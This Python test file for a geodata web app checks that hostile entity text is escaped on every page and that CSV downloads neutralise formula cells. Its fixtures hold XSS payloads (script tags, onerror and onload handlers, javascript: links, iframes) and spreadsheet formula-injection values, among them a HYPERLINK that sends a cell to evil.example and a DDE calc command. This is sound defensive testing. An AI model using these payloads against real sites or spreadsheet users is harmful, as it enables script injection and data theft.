"""Hostile entity text is inert everywhere: every entity text is escaped wherever HTML or JavaScript shows it.

A data dir is built with entities whose names, descriptions, addresses, operators, URLs and even ids
carry HTML, `<script>`, event handlers, `javascript:` links, quotes, backslashes, backticks and `${}`.
Every HTML page and HTML view is parsed: no element or attribute comes from that text, every link is
relative or http(s), no inline script holds a raw payload, and the text itself is shown verbatim. The
JSON/GeoJSON API keeps the exact strings; CSV downloads neutralise formula cells.
(tests/web/test_pages.py::test_hostile_text_is_escaped_everywhere covers a few pages with one entity;
this covers every page, the OGC HTML views, the report, error pages and the downloads.)
"""
from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from html.parser import HTMLParser
from urllib.parse import quote

import pandas as pd
import pytest

MARK = "__pwn"  # every payload sets window.__pwn…; it may appear only as escaped text
HOSTILE = [
    {
        "id": "hx-1", "name": f"<script>window.{MARK}1=1</script>Spółdzielnia „Zła” & S-ka",
        "operator": f"<img src=x onerror=\"window.{MARK}2=1\">Fundacja",
        "street": "ul. <b>Pogrubiona</b> 1 \\\" ' `",
        "description": f"<a href=\"javascript:window.{MARK}3=1\">klik</a> javascript:alert(1) `${{window.{MARK}4=1}}`",
        "website": "https://example.org/a?b=`${1}`\\",
        "sources": "https://example.org/zrodlo | https://example.org/x?`${2}`",
        "locality": "Jędrzejów", "lat": "50.6453", "lon": "20.3047", "types": "wtz",
    },
    {
        "id": "hx-2", "name": f"\"><svg onload=window.{MARK}5=1> ' \\' \\\\ </textarea></title></style>",
        "operator": f"</script><script>window.{MARK}6=1</script>",
        "street": "${7*7} {{7*7}} {% raw %}",
        "description": f"linia\u2028druga\u2029<iframe src=\"javascript:window.{MARK}7=1\"></iframe>",
        "locality": "Kielce", "lat": "50.8703", "lon": "20.6275", "types": "cis;kis",
        "phone": "+48 41 000 00 00", "email": "a@example.org",
    },
    {
        # The id itself is hostile: it travels in URLs (pages, OGC item links) and in map popups.
        "id": "hx-3<b>\"'`$", "name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
        "operator": "@SUM(1+1)*cmd|' /C calc'!A0", "street": "-2+3", "description": "+1+1",
        "locality": "Busko-Zdrój", "lat": "50.4700", "lon": "20.7180", "types": "ngo",
    },
]
REJECTED = {"id": "hx-rejected", "name": "Odrzucony", "types": "ngo", "website": "javascript:alert(1)"}
TEXT_FIELDS = ("id", "name", "operator", "street", "description", "website", "sources", "phone")


def add_hostile_entities(settings) -> None:
    path = settings.data_dir / "entities.csv"
    with open(path, encoding="utf-8", newline="") as fh:
        fields = csv.DictReader(fh).fieldnames
    with open(path, "a", encoding="utf-8", newline="") as fh:
        w = csv.DictWriter(fh, fieldnames=fields)
        for extra in [*HOSTILE, REJECTED]:
            row = {f: "" for f in fields}
            row.update({"social_enterprise": "unknown", "status": "active", "location_precision": "locality"})
            row.update(extra)
            w.writerow(row)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, built_settings):
    from conftest import clone_settings
    from geoes.dataset.build import build
    from geoes.web import create_app

    settings = clone_settings(built_settings, tmp_path_factory.mktemp("hostile_security"))
    add_hostile_entities(settings)
    result = build(settings)
    app = create_app({"TESTING": True, "GEOES_DATA_DIR": str(settings.data_dir), "GEOES_REGION": "26"})
    return app, result


@pytest.fixture()
def hc(hostile):
    return hostile[0].test_client()


# ------------------------------------------------------------------------------------ HTML checking

class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.scripts: list[tuple[dict, str]] = []
        self.text: list[str] = []
        self._in_script: dict | None = None

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))
        if tag == "script":
            self._in_script = dict(attrs)
            self.scripts.append((self._in_script, ""))

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = None

    def handle_data(self, data):
        if self._in_script is not None:
            attrs, body = self.scripts[-1]
            self.scripts[-1] = (attrs, body + data)
        else:
            self.text.append(data)


URL_ATTRS = ("href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset")


# The pages' own markup of these kinds, exactly: the icons drawn from the sprite (geoes.web.assets) and the
# share dialog's read-only embed code. Anything else of the kind can only come from hostile text.
OWN_SVG = ({"class": "icon", "aria-hidden": "true", "focusable": "false"},)
OWN_USE = re.compile(r"/static/img/icons\.[0-9a-f]{12}\.svg#i-[a-z0-9-]+")
OWN_TEXTAREA = {"id": "share-code", "rows": "4", "readonly": None}


def own_markup(tag: str, attrs: list) -> bool:
    a = dict(attrs)
    if tag == "svg":
        return a in OWN_SVG
    if tag == "textarea":
        return a == OWN_TEXTAREA
    return False


# The contact block's links: a phone number (digits only) and an e-mail address open no page and run nothing.
INERT_CONTACT = re.compile(r"tel:\+?\d{6,15}|mailto:[^\s\"'<>:/()]+@[^\s\"'<>:/()]+")


def assert_inert(html: str, where: str) -> _Collector:
    """No markup, handler, script or non-http(s) link made from the hostile text."""
    p = _Collector()
    p.feed(html)
    p.close()
    for tag, attrs in p.tags:
        assert tag not in ("svg", "iframe", "textarea", "object", "embed") or own_markup(tag, attrs), (where, tag, attrs)
        if tag == "use":
            assert [k for k, _ in attrs] == ["href"] and OWN_USE.fullmatch(dict(attrs)["href"]), (where, attrs)
        for name, value in attrs:
            assert not name.startswith("on"), (where, tag, name, value)
            if name in URL_ATTRS and value:
                v = value.strip().lower()
                assert v.startswith(("/", "#", "?", "http://", "https://", "data:image/")) or (
                    ":" not in v.split("/")[0]) or INERT_CONTACT.fullmatch(v), (where, tag, name, value)
                assert not v.startswith(("javascript:", "vbscript:", "data:text")), (where, tag, name, value)
            # (a page's meta description names the entity: as an attribute value, escaped)
            assert MARK not in (value or "") or name in ("title", "alt", "aria-label", "value", "data-name") or (
                tag == "meta" and name == "content"), (where, tag, name, value)
    for attrs, body in p.scripts:
        if attrs.get("src"):
            continue
        # Inside scripts the payload may appear only encoded: never raw markup, never a raw `${`.
        for raw in ("<script", "</script", "<img", "<svg", "<iframe", "${window", "javascript:window"):
            assert raw not in body, (where, raw, body[max(0, body.find(raw) - 80):body.find(raw) + 80])
        if attrs.get("type") in ("application/json", "application/ld+json"):
            json.loads(body)  # still valid JSON
    return p


def pages_of(result) -> list[str]:
    hx = HOSTILE
    return [
        "/", "/?q=%3Cscript%3E", "/embed", "/embed?type=wtz", "/about", "/powiaty",
        "/entities", "/entities?q=Sp%C3%B3%C5%82dzielnia", "/entities?type=wtz", "/entities?sort=name&order=desc",
        *[f"/entities/{quote(e['id'], safe='')}" for e in hx],
        "/powiaty/2602", "/powiaty/2661", "/powiaty/2604", "/gminy/2602023", "/gminy/2661011",
        "/compare", "/compare?teryt=2602&teryt=2661", "/compare?teryt=2602023&teryt=2661011",
        "/powiaty/2602/raport.html", "/powiaty/2661/raport.html",
        "/ogc?f=html", "/ogc/conformance?f=html", "/ogc/api?f=html", "/ogc/collections?f=html",
        "/ogc/collections/entities?f=html", "/ogc/collections/entities/items?f=html&limit=1000",
        "/ogc/collections/entities/items?f=html&q=%3Cscript%3E",
        "/ogc/collections/gminy/items?f=html&limit=5", "/ogc/collections/powiaty/items?f=html",
        *[f"/ogc/collections/entities/items/{quote(e['id'], safe='')}?f=html" for e in hx],
    ]


def test_build_kept_hostile_rows_and_dropped_the_javascript_url(hostile):
    _app, result = hostile
    from geoes.dataset.reader import load_dataset

    ds = load_dataset(result.path)
    assert set(e["id"] for e in HOSTILE) <= set(ds.entities["id"])
    # A javascript: website costs the website, not the entity: it never reaches the served data.
    kept = ds.entities.set_index("id").loc["hx-rejected"]
    assert not kept["website"] or pd.isna(kept["website"])
    assert not ds.entities["website"].fillna("").str.contains("javascript", case=False).any()


def test_every_html_page_is_inert(hostile, hc):
    _app, result = hostile
    for url in pages_of(result):
        r = hc.get(url)
        assert r.status_code == 200, (url, r.status_code, r.get_data(as_text=True)[:300])
        assert r.content_type.startswith("text/html"), (url, r.content_type)
        html = r.get_data(as_text=True)
        assert_inert(html, url)


def _shown_text(html: str) -> str:
    p = assert_inert(html, "text")
    return "".join(p.text)


@pytest.mark.parametrize("entity", HOSTILE, ids=lambda e: e["id"])
def test_hostile_text_is_shown_verbatim(hc, entity):
    text = _shown_text(hc.get(f"/entities/{quote(entity['id'], safe='')}").get_data(as_text=True))
    for field in ("name", "operator", "street"):
        assert entity[field].strip() in text, field
    ogc = _shown_text(hc.get(f"/ogc/collections/entities/items/{quote(entity['id'], safe='')}?f=html")
                      .get_data(as_text=True))
    assert entity["name"].strip() in ogc


def test_links_to_entity_pages_carry_the_quoted_id(hc):
    """A hostile id is quoted in every link, and following the link finds the entity."""
    for page in ("/entities?q=hyperlink", "/ogc/collections/entities/items?f=html&limit=1000"):
        p = assert_inert(hc.get(page).get_data(as_text=True), page)
        hrefs = [v for tag, attrs in p.tags if tag == "a" for k, v in attrs if k == "href" and v and "hx-3" in v]
        assert hrefs, page
        for href in hrefs:
            assert "<" not in href and '"' not in href and "`" not in href, href
            r = hc.get(href)
            assert r.status_code == 200, (href, r.status_code)
            assert HOSTILE[2]["name"] in _shown_text(r.get_data(as_text=True))


@pytest.mark.parametrize("url", [
    "/entities/%3Cscript%3Ewindow.__pwn=1%3C%2Fscript%3E", "/entities?type=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
    "/entities?sort=%22%3E%3Csvg%20onload%3Dalert(1)%3E", "/powiaty/%3Cscript%3E", "/gminy/%22%3E%3Cb%3E",
    "/compare?teryt=%3Cscript%3Ealert(1)%3C/script%3E&teryt=2602", "/nie-ma/%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "/ogc/collections/%3Cscript%3E?f=html", "/ogc/collections/entities/items/%3Cscript%3E?f=html",
    "/ogc/collections/entities/items?f=html&type=%3Cscript%3E",
])
def test_reflected_input_in_error_pages_is_inert(hc, url):
    r = hc.get(url)
    assert 400 <= r.status_code < 500, (url, r.status_code)
    body = r.get_data(as_text=True)
    if r.content_type.startswith("text/html"):
        assert_inert(body, url)
    else:
        assert r.content_type.startswith("application/json"), r.content_type
        json.loads(body)
    assert "<script>alert" not in body and "<script>window" not in body and "<svg" not in body
    assert "onerror=alert" not in body or "&lt;img" in body


# ------------------------------------------------------------------------------------ JSON keeps exact text

def _features(hc, url) -> dict:
    r = hc.get(url)
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    return {f["properties"]["id"] if "id" in f["properties"] else f["id"]: f for f in json.loads(r.data)["features"]}


@pytest.mark.parametrize("url", ["/api/entities.geojson", "/ogc/collections/entities/items?limit=10000"])
def test_json_keeps_the_exact_strings(hc, url):
    feats = _features(hc, url)
    for e in HOSTILE:
        props = feats[e["id"]]["properties"]
        for field in TEXT_FIELDS:
            if e.get(field):
                assert props[field] == e[field], (field, props[field])


def test_ogc_item_json_exact(hc):
    for e in HOSTILE:
        r = hc.get(f"/ogc/collections/entities/items/{quote(e['id'], safe='')}")
        assert r.status_code == 200
        props = json.loads(r.data)["properties"]
        assert props["name"] == e["name"] and props["description"] == e["description"]


def test_gpkg_download_keeps_the_exact_strings(hc, tmp_path):
    import geopandas as gpd

    path = tmp_path / "x.gpkg"
    path.write_bytes(hc.get("/api/entities.geojson?format=gpkg").data)
    frame = gpd.read_file(path, layer="entities").set_index("id")
    for e in HOSTILE:
        assert frame.loc[e["id"], "name"] == e["name"]


# ------------------------------------------------------------------------------------ CSV neutralised

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _assert_neutral_csv(data: bytes, where: str) -> pd.DataFrame:
    frame = pd.read_csv(io.BytesIO(data), dtype=str, encoding="utf-8-sig", keep_default_na=False)
    for col in frame.columns:
        # A plain negative number (a change since 2022) is a number to Excel, not a formula.
        number = frame[col].str.fullmatch(r"-\d+(\.\d+)?")
        bad = frame[col][frame[col].str.startswith(FORMULA_START) & ~number]
        assert bad.empty, (where, col, bad.tolist()[:3])
    return frame


def test_csv_downloads_neutralise_formula_cells(hc):
    frame = _assert_neutral_csv(hc.get("/api/entities.geojson?format=csv").data, "entities.csv").set_index("id")
    row = frame.loc["hx-3<b>\"'`$"]
    assert row["name"] == "'" + HOSTILE[2]["name"]
    assert row["operator"] == "'" + HOSTILE[2]["operator"]
    assert row["street"] == "'-2+3" and row["description"] == "'+1+1"
    assert frame.loc["hx-2", "phone"] == "'+48 41 000 00 00"
    # everything else exact
    assert frame.loc["hx-1", "name"] == HOSTILE[0]["name"]
    assert frame.loc["hx-1", "street"] == HOSTILE[0]["street"]


def test_zip_and_page_csvs_neutralise_formula_cells(hc):
    z = zipfile.ZipFile(io.BytesIO(hc.get("/api/download.zip?format=csv").data))
    names = [n for n in z.namelist() if n.endswith(".csv")]
    assert names
    for name in names:
        _assert_neutral_csv(z.read(name), name)
    for url in ("/api/indicators?format=csv", "/api/gminy.geojson?format=csv", "/powiaty/2602/gminy.csv",
                "/powiaty/2602/indicators.csv"):
        r = hc.get(url)
        assert r.status_code == 200, url
        _assert_neutral_csv(r.data, url)


def test_neutralise_cell_covers_every_prefix():
    from geoes.common.excel import neutralise_cell

    for s in ("=1+1", "+48 600", "-2", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise_cell(s) == "'" + s
    for s in ("Kielce", "'=już", "", "1-2", " =spacja"):
        assert neutralise_cell(s) == s
    assert neutralise_cell(None) is None and neutralise_cell(5) == 5
